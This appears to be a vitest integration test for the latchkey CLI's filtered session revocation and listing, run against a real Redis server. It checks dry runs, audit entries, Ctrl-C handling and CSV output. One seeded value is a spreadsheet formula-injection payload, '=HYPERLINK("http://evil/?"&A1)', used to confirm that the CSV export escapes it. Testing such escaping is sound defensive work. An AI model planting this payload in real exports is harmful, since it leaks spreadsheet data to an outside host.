import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createAuditLog } from '../../../electron/core/audit/audit-log';
import { FileLocks } from '../../../electron/core/fs/locks';
import { startRedis, type RedisServer } from '../../harness/redis';
import { seedCreateSession, seedValidateSession, type SeedSession } from '../../harness/seed-session-server';
import { createTempXdg, type TempXdg } from '../../harness/temp-xdg';
import { runLatchkey } from './run-cli';

/**
 * `latchkey sessions revoke --where …` and `sessions list --where … --format csv` as scripts and
 * runbooks use them: the built CLI, a real redis-server, sessions written by the seed server's code.
 */
const HOUR = 3_600_000;
const BIN = fileURLToPath(new URL('../../../bin/latchkey.js', import.meta.url));

describe('latchkey sessions revoke --where / list --where (the built CLI on a real redis-server)', () => {
  let server: RedisServer;
  let raw: Redis;
  let xdg: TempXdg;
  const run = (args: string[], env: Record<string, string> = {}) => runLatchkey(['sessions', ...args], { env: { ...xdg.env, LATCHKEY_REDIS_URL: server.url, ...env } });
  const audit = () => createAuditLog({ stateDir: xdg.paths.stateDir, locks: new FileLocks() }).query({ actions: ['session.revoke'] });

  beforeAll(async () => {
    server = await startRedis();
    raw = new Redis(server.url);
    xdg = await createTempXdg();
  });
  afterAll(async () => {
    raw?.disconnect();
    await server?.stop();
    await xdg?.cleanup();
  });
  beforeEach(() => raw.flushdb());

  async function incidentTraffic(): Promise<{ leaked: SeedSession[]; kept: SeedSession[] }> {
    const leaked = await Promise.all(Array.from({ length: 150 }, (_, i) => seedCreateSession(raw, { userId: `u${i % 40}`, deviceId: `d${i % 90}`, metadata: { app_version: '4.2.0', os: 'wearOS' } })));
    const kept = await Promise.all(Array.from({ length: 30 }, (_, i) => seedCreateSession(raw, { userId: `k${i}`, deviceId: `k${i}`, metadata: { app_version: '4.2.1', os: 'wearOS' }, now: new Date(Date.now() - 20 * HOUR), ttlHours: 48 })));
    return { leaked, kept };
  }

  it('--dry-run counts sessions, users and devices and revokes nothing; without --yes outside a terminal nothing is revoked', async () => {
    const { leaked } = await incidentTraffic();
    const dry = await run(['revoke', '--where', 'app_version=4.2.0', '--dry-run', '--json']);
    expect(dry).toMatchObject({ code: 0, stderr: '' });
    expect(JSON.parse(dry.stdout)).toEqual({ matched: 150, revoked: 0, users: 40, devices: 90 });
    expect((await run(['revoke', '--where', 'app_version=4.2.0', '--dry-run'])).stdout).toBe('150 sessions of 40 users on 90 devices match. Nothing was revoked (--dry-run).\n');

    const refused = await run(['revoke', '--where', 'app_version=4.2.0']);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('150 sessions of 40 users on 90 devices match; nothing was revoked. Run again with --yes');
    for (const session of leaked.slice(0, 10)) expect(await seedValidateSession(raw, session.token)).toBeDefined();
    expect(await audit()).toEqual([]);
  });

  it('--yes revokes exactly the matching sessions and prints {matched, revoked}; audited with the filter and the count', async () => {
    const { leaked, kept } = await incidentTraffic();
    const revoked = await run(['revoke', '--where', 'app_version=4.2.0', '--where', 'os=wearOS', '--created-after', new Date(Date.now() - HOUR).toISOString(), '--yes', '--json']);
    expect(revoked).toMatchObject({ code: 0, stderr: '' });
    expect(JSON.parse(revoked.stdout)).toEqual({ matched: 150, revoked: 150 });
    for (const session of leaked) expect(await seedValidateSession(raw, session.token)).toBeUndefined();
    for (const session of kept) expect(await seedValidateSession(raw, session.token)).toBeDefined();
    expect((await run(['revoke', '--where', 'app_version=4.2.0', '--yes'])).stdout).toBe('Revoked 0 sessions (0 matched).\n');

    // Created before the leak: the older sessions only.
    expect(JSON.parse((await run(['revoke', '--created-before', new Date(Date.now() - 10 * HOUR).toISOString(), '--yes', '--json'])).stdout)).toEqual({ matched: 30, revoked: 30 });

    const entries = await audit();
    expect(entries.map((entry) => [entry.outcome, entry.sessions?.scope, entry.counts])).toEqual([
      ['started', 'filter', undefined],
      ['ok', 'filter', { revoked: 150, matched: 150 }],
      ['started', 'filter', undefined],
      ['ok', 'filter', { revoked: 0, matched: 0 }],
      ['started', 'filter', undefined],
      ['ok', 'filter', { revoked: 30, matched: 30 }],
    ]);
    expect(entries[1]?.sessions?.filter).toMatchObject({
      where: [
        { field: 'app_version', value: '4.2.0' },
        { field: 'os', value: 'wearOS' },
      ],
      created_after: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
    });
    expect(entries[1]?.ref).toBe(`redis://127.0.0.1:${server.port}`);
  });

  it('refuses what it cannot read, and a filter mixed with --id', async () => {
    expect(await run(['revoke', '--where', 'app_version'])).toMatchObject({ code: 3, stderr: expect.stringContaining('--where takes key=value') });
    expect(await run(['revoke', '--created-before', 'last tuesday', '--yes'])).toMatchObject({ code: 3, stderr: expect.stringContaining('ISO 8601') });
    expect(await run(['revoke', '--where', 'os=iOS', '--id', 'a'.repeat(64)])).toMatchObject({ code: 2 });
    expect(await run(['revoke', '--yes'])).toMatchObject({ code: 2, stderr: expect.stringContaining('go with a filter') });
    expect(await run(['list', '--format', 'xml'])).toMatchObject({ code: 2 });
  });

  it('list --where … in text, JSON and CSV; CSV cells that a spreadsheet would run as a formula are made text', async () => {
    await incidentTraffic();
    const formula = await seedCreateSession(raw, { userId: '=HYPERLINK("http://evil/?"&A1)', deviceId: '+1-555-0100', metadata: { app_version: '@SUM(1+1)', os: '-2+3', note: 'a "quoted", value' } });
    const json = JSON.parse((await run(['list', '--where', 'os=wearOS', '--where', 'app_version=4.2.1', '--json'])).stdout) as { user_id: string }[];
    expect(json).toHaveLength(30);
    expect(json.every((session) => session.user_id.startsWith('k'))).toBe(true);

    const csv = await run(['list', '--where', 'note=a "quoted", value', '--format', 'csv']);
    expect(csv.code).toBe(0);
    const [header, row, end] = csv.stdout.split('\n');
    expect(header).toBe('id,user_id,device_id,created_at,expires_at,ttl_seconds,device_type,os,app_version,metadata');
    expect(end).toBe('');
    expect(row).toContain(`${formula.id},"'=HYPERLINK(""http://evil/?""&A1)",'+1-555-0100,`);
    expect(row).toContain(",'-2+3,'@SUM(1+1),");
    expect(row).toContain('"{""app_version"":""@SUM(1+1)"",""os"":""-2+3"",""note"":""a \\""quoted\\"", value""}"');
    // Every line but the header is a session: as many rows as the JSON listing.
    const all = (await run(['list', '--format', 'csv'])).stdout.trim().split('\n');
    expect(all).toHaveLength(1 + 181);
  });

  it('Ctrl-C during revoke-device while Redis holds a deletion: stops at once, says how many for sure and how many more may be; audited', async () => {
    const write = raw.pipeline();
    const created = new Date().toISOString().replace('Z', '000+00:00');
    const expires = new Date(Date.now() + HOUR).toISOString().replace('Z', '000+00:00');
    for (let i = 0; i < 6000; i += 1) {
      const id = i.toString(16).padStart(64, '0');
      write.hset(`session:${id}`, { user_id: `u${i % 9}`, device_id: 'lost-watch', created_at: created, expires_at: expires, metadata: '{}' });
      write.zadd('latchkey:session:device:lost-watch', Date.now() + HOUR, `${id}:u${i % 9}`);
    }
    await write.exec();

    const child = spawn(process.execPath, [BIN, 'sessions', 'revoke-device', 'lost-watch'], { env: { ...process.env, ...xdg.env, LATCHKEY_REDIS_URL: server.url }, stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')));
    const exited = new Promise<number | null>((resolve) => child.on('close', resolve));
    // Once the first batch is gone, pause the server (it now holds the next deletion), then press Ctrl-C.
    await expect.poll(async () => raw.dbsize(), { timeout: 30_000, interval: 20 }).toBeLessThan(6001);
    server.pause();
    child.kill('SIGINT');
    const code = await exited;
    server.resume();

    expect(code).toBe(1);
    // Ctrl-C first says what stopping means, then the outcome with its counts.
    expect(stderr).toMatch(/^latchkey: stopping — the batch in flight is confirmed or reported[^\n]*\nlatchkey: Revoking the sessions of device "lost-watch" was cancelled; \d+ sessions were revoked before it stopped/);
    expect(stderr).not.toMatch(/\n\s+at /);
    const outcome = (await audit()).at(-1)!;
    expect(outcome).toMatchObject({ outcome: 'cancelled', sessions: { scope: 'device', device_id: 'lost-watch' } });
    // Redis may have deleted a batch without its reply getting out before the pause: that batch is
    // then unconfirmed, not counted.
    const confirmed = outcome.counts!.revoked!;
    const unconfirmed = outcome.counts!.unconfirmed ?? 0;
    expect(confirmed + unconfirmed).toBeGreaterThan(0);
    if (unconfirmed > 0) expect(stderr).toContain(`at least ${confirmed}, possibly up to ${confirmed + unconfirmed}`);
    // What Redis deleted, once it answers again, lies within what was reported.
    await expect.poll(async () => raw.ping(), { timeout: 5_000 }).toBe('PONG');
    const left = await raw.eval("return #redis.call('KEYS', 'session:*')", 0);
    const deleted = 6000 - Number(left);
    expect(deleted).toBeGreaterThanOrEqual(confirmed);
    expect(deleted).toBeLessThanOrEqual(confirmed + unconfirmed);
  });
});
